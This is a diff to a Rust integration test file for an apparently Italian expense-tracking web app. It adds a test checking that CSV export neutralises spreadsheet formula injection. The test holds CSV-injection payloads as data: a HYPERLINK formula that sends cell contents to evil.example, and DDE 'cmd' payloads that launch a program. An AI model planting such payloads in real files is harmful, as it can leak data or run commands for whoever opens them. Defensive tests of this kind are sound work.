@@ -50,7 +50,6 @@ async fn parallel_guesses_are_counted_before_any_password_is_verified(app: TestA
     assert_eq!(late.get(&429), Some(&50), "{late:?}");
 }
 
-
 async fn implausible_dates_are_refused_and_none_can_block_a_document(app: TestApp) {
     let seed = app.seed().await;
     let before = app.db.fingerprint().await;
@@ -74,11 +73,18 @@ async fn implausible_dates_are_refused_and_none_can_block_a_document(app: TestAp
             "{problem}"
         );
         assert!(
-            error["message"].as_str().unwrap_or("").contains("01/01/1990"),
+            error["message"]
+                .as_str()
+                .unwrap_or("")
+                .contains("01/01/1990"),
             "{problem}"
         );
     }
-    assert_eq!(app.db.fingerprint().await, before, "a refused date wrote something");
+    assert_eq!(
+        app.db.fingerprint().await,
+        before,
+        "a refused date wrote something"
+    );
     // The bounds themselves are accepted.
     let mut body = seed.expense("F2", "100.00", "22.00");
     body["document_date"] = json!("1990-01-01");
@@ -117,7 +123,96 @@ async fn implausible_dates_are_refused_and_none_can_block_a_document(app: TestAp
     }
 }
 
+/// A browser session's cookie for `email`.
+async fn session_cookie(app: &TestApp, email: &str) -> String {
+    let response = app
+        .anon
+        .post(app.url("/api/v1/auth/session"))
+        .json(&json!({"email": email, "password": PASSWORD}))
+        .send()
+        .await
+        .expect("session");
+    assert_eq!(response.status().as_u16(), 200);
+    response.headers()["set-cookie"]
+        .to_str()
+        .expect("cookie")
+        .split(';')
+        .next()
+        .expect("pair")
+        .to_owned()
+}
+
+async fn exported_csv_carries_no_live_formula(app: TestApp) {
+    let seed = app.seed().await;
+    let attacks = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Clicca\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(A1:A2)",
+        "-2+3+cmd|' /C calc'!A0",
+    ];
+    let mut csv =
+        String::from("Ente;Categoria;Fornitore;Numero fattura;Data fattura;Imponibile;IVA\n");
+    for (i, name) in attacks.iter().enumerate() {
+        let quoted = name.replace('"', "\"\"");
+        csv.push_str(&format!(
+            "Unione delle Terre d'Argine;design_training;\"{quoted}\";{i};15/10/2020;100,00;22,00\n"
+        ));
+    }
+    let path = format!("/api/v1/projects/{}/imports/expenses.csv", seed.project_id);
+    let answer = app.post_raw(&path, "text/csv", csv).await;
+    assert_eq!(
+        answer.status().as_u16(),
+        201,
+        "{}",
+        answer.text().await.unwrap_or_default()
+    );
+    // A credit note keeps its negative amount as a number.
+    let mut credit = seed.expense("NC 1", "10.00", "2.20");
+    credit["document_type"] = json!("credit_note");
+    app.create(&seed.expenses_path(), &credit).await;
+    // A tab before a formula is kept, not trimmed away into a live formula.
+    let tabbed = "Ente;Categoria;Fornitore;Numero fattura;Data fattura;Imponibile;IVA\n\
+                  Unione delle Terre d'Argine;design_training;\t=1+1;99;15/10/2020;100,00;22,00\n";
+    let answer = app.post_raw(&path, "text/csv", tabbed).await;
+    assert_eq!(answer.status().as_u16(), 201);
+
+    let cookie = session_cookie(&app, crate::common::ADMIN_EMAIL).await;
+    let export = app
+        .anon
+        .get(app.url(&format!("/progetti/{}/spese.csv", seed.project_id)))
+        .header("cookie", cookie)
+        .send()
+        .await
+        .expect("export");
+    assert_eq!(export.status().as_u16(), 200);
+    let text = export.text().await.expect("csv");
+    let mut reader = csv_reader(text.trim_start_matches('\u{feff}'));
+    let mut suppliers = Vec::new();
+    let mut claimed = Vec::new();
+    for record in reader.records() {
+        let record = record.expect("record");
+        for cell in record.iter() {
+            let live = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                || (cell.starts_with('-') && cell.contains(|c: char| c.is_alphabetic()));
+            assert!(!live, "live formula exported: {cell:?}");
+        }
+        suppliers.push(record[3].to_owned());
+        claimed.push(record[11].to_owned());
+    }
+    for name in attacks.iter().chain(&["\t=1+1"]) {
+        assert!(suppliers.contains(&format!("'{name}")), "{suppliers:?}");
+    }
+    assert!(claimed.contains(&"-12,20".to_owned()), "{claimed:?}");
+}
+
+fn csv_reader(text: &str) -> ::csv::Reader<&[u8]> {
+    ::csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(text.as_bytes())
+}
+
 on_both_backends!(
     parallel_guesses_are_counted_before_any_password_is_verified,
     implausible_dates_are_refused_and_none_can_block_a_document,
+    exported_csv_carries_no_live_formula,
 );
